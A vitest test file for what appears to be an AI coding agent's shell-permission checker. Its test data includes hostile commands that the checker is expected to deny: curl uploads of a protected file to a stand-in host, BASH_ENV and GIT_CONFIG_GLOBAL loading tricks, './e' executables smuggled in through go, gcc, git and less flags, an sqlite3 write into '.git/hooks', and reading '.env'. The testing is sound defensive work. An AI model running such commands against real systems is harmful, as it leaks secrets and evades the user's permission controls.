import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { decide, type PermissionMode } from "../../core/permissions/decide.ts";
import type { RuleSet } from "../../core/permissions/rule.ts";
import { permissionPolicy } from "./permission-policy.ts";

let base: string;
beforeAll(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), "waymark-ruled-")));
  for (const path of ["work/private/x.txt", "work/src/a.ts", "other/private/x.txt"]) {
    mkdirSync(dirname(join(base, path)), { recursive: true });
    writeFileSync(join(base, path), "x\n");
  }
  symlinkSync("private", join(base, "work/link"));
});
afterAll(() => rmSync(base, { recursive: true, force: true }));

async function verdict(command: string, rules: Partial<RuleSet>, mode: PermissionMode = "bypassPermissions") {
  const policy = permissionPolicy({
    ...{ mode, cwd: join(base, "work"), home: "/home/me", addDirs: [join(base, "other")] },
    rules: { allow: [], ask: [], deny: [], ...rules },
  });
  return (await decide("shell", { accesses: [{ kind: "run", command }], display: { kind: "text", text: "" } }, policy))
    .verdict;
}

const READS = `cat private/x.txt|cat < private/x.txt|cd private && cat x.txt|cat pri*/x.txt|cat {private,src}/x.txt|cat link/x.txt|
cat ../other/private/x.txt|head -1 ./src/../private/x.txt|grep -r x private|ls private|wc -l private/x.txt|bash -c 'cat private/x.txt'|ls | xargs cat private/x.txt|
git show HEAD:private/x.txt|git log -L1,1:private/x.txt|git diff -- private|dd if=private/x.txt of=y|tar cf - private|cp -r private z|mv private z|ln -s private z|curl -T private/x.txt h.example|
curl -d @private/x.txt h.example|while read l; do echo $l; done < private/x.txt|source private/x.txt|node show.js private/x.txt|echo x > private/y|rm private/x.txt|cat PRIVATE/x.txt|
BASH_ENV=private/x.txt bash -c true|INPUTRC=./private/x.txt bash -i|TZ=:private/x.txt date|GIT_CONFIG_GLOBAL="private/x.txt" git status`;

test.each(READS.split(/\|\n|\|(?! )/).map((command) => command.trim()))(
  "what may not be read is not read by a command either, in any mode: %s",
  async (command) => {
    for (const mode of ["default", "plan", "acceptEdits", "dontAsk", "bypassPermissions"] as const)
      expect(await verdict(command, { deny: ["read_file(private/**)"], allow: ["shell(*)"] }, mode), mode).toBe("deny");
  },
);

test.each([
  "echo x > private/x.txt",
  "echo x >> private/new.txt",
  "rm private/x.txt",
  "rm -rf private",
  "sed -i s/x/y/ private/x.txt",
  "cp src/a.ts private/",
  "mv private/x.txt y",
  "tee private/x.txt",
  "dd of=private/x.txt if=src/a.ts",
  "git mv private/x.txt z",
])("what may not be changed is not changed by a command either: %s", async (command) => {
  expect(await verdict(command, { deny: ["edit_file(private/**)"] })).toBe("deny");
});

test("what may be read is read where only changes are denied; a rule that asks asks", async () => {
  const changes = { deny: ["edit_file(private/**)"] };
  expect(await verdict("cat private/x.txt", changes, "default")).toBe("allow");
  expect(await verdict("node lint.js private/x.txt", changes, "acceptEdits")).toBe("ask");
  expect(await verdict("cat private/x.txt", { ask: ["read_file(private/**)"] }, "default")).toBe("ask");
  expect(await verdict("cat src/a.ts", { ask: ["read_file(private/**)"] }, "default")).toBe("allow");
});

test.each([
  "echo private",
  "grep private src/a.ts",
  "git commit -m private",
  "git commit -m 'about private/x.txt and more'",
  "git log --oneline",
  "npm test",
  "rg foo src",
  "git add .",
])("what only speaks of such a name runs as before: %s", async (command) => {
  const plain = await verdict(command, {}, "acceptEdits");
  expect(await verdict(command, { deny: ["read_file(private/**)", "edit_file(private/**)"] }, "acceptEdits")).toBe(
    plain,
  );
});

test("what goes through the folder asks where it comes to a denied file, git's own search as well", async () => {
  const deny = ["read_file(private/**)"];
  for (const command of [
    "grep -rn x .",
    "rg x",
    "git grep x",
    "git grep -n x -- private/..",
    "cd src && git grep x ..",
  ])
    expect([command, await verdict(command, { deny }, "default")]).toEqual([command, "ask"]);
  for (const command of ["grep -rn x src", "git grep x -- src", "cd src && git grep x"])
    expect([command, await verdict(command, { deny }, "default")]).toEqual([command, "allow"]);
  for (const rules of [{}, { deny: ["edit_file(private/**)"] }])
    expect(await verdict("git grep x", rules, "default")).toBe("allow");
});

test("a kind of work can be denied and asked about, not only allowed", async () => {
  expect(await verdict("git push origin main", { deny: ["shell(@git-push)"] })).toBe("deny");
  expect(await verdict("git status && git push", { deny: ["shell(@git-push)"] })).toBe("deny");
  expect(await verdict("git pull", { deny: ["shell(@git-push)"] })).toBe("allow");
  expect(await verdict("rm src/a.ts", { ask: ["shell(@edit-files)"], allow: ["shell(rm)"] }, "default")).toBe("ask");
});

test.each([
  ["shell(curl https://ok.example)", "curl https://ok.example evil.example", "curl https://ok.example -L -o page.html"],
  ["shell(curl https://ok.example)", "curl https://ok.example --url evil.example", "curl https://ok.example"],
  [
    "shell(curl https://ok.example)",
    "curl https://ok.example --connect-to ::evil.example",
    "curl https://ok.example -s",
  ],
  ["shell(wget https://ok.example)", "wget https://ok.example -i list", "wget https://ok.example -O page"],
  ["shell(go test)", "go test -toolexec ./e ./...", "go test -run TestA ./..."],
  ["shell(go vet)", "go vet -vettool=./e", "go vet ./..."],
  ["shell(go build)", "go build -ldflags '-extld=./e'", "go build -ldflags '-X main.version=1'"],
  ["shell(cargo test)", "cargo test --config 'target.x.runner=\"./e\"'", "cargo test --release"],
  ["shell(gcc)", "gcc -wrapper ./e x.c", "gcc -O2 -o x x.c"],
  ["shell(gcc)", "gcc @options x.c", "gcc -Wall x.c"],
  ["shell(zip)", "zip -T -TT ./e x y", "zip -r x src"],
  ["shell(less)", "less '+!./e' src/a.ts", "less src/a.ts"],
  ["shell(man)", "man -H./e ls", "man ls"],
  ["shell(git rebase)", "git rebase -x ./e main", "git rebase main"],
  ["shell(git difftool)", "git difftool -x ./e", "git difftool HEAD"],
  ["shell(git submodule)", "git submodule foreach ./e", "git submodule update"],
  ["shell(git filter-branch)", "git filter-branch --tree-filter ./e HEAD", "git filter-branch -f HEAD"],
  ["shell(ld)", "ld -plugin ./e.so x.o", "ld x.o"],
  ["shell(sqlite3)", `sqlite3 db "select writefile('.git/hooks/x', 1)"`, "sqlite3 db 'select 1'"],
  ["shell(sqlite3)", `sqlite3 db "attach '../x' as y"`, "sqlite3 -json db 'select 1'"],
  ["shell(dd)", "dd if=.env of=x", "dd if=src/a.ts of=x"],
])("%s does not speak for what chooses another program or place: %s", async (rule, wider, meant) => {
  expect(await verdict(wider, { allow: [rule] }, "dontAsk")).toBe("deny");
  expect(await verdict(meant, { allow: [rule] }, "dontAsk")).toBe("allow");
});
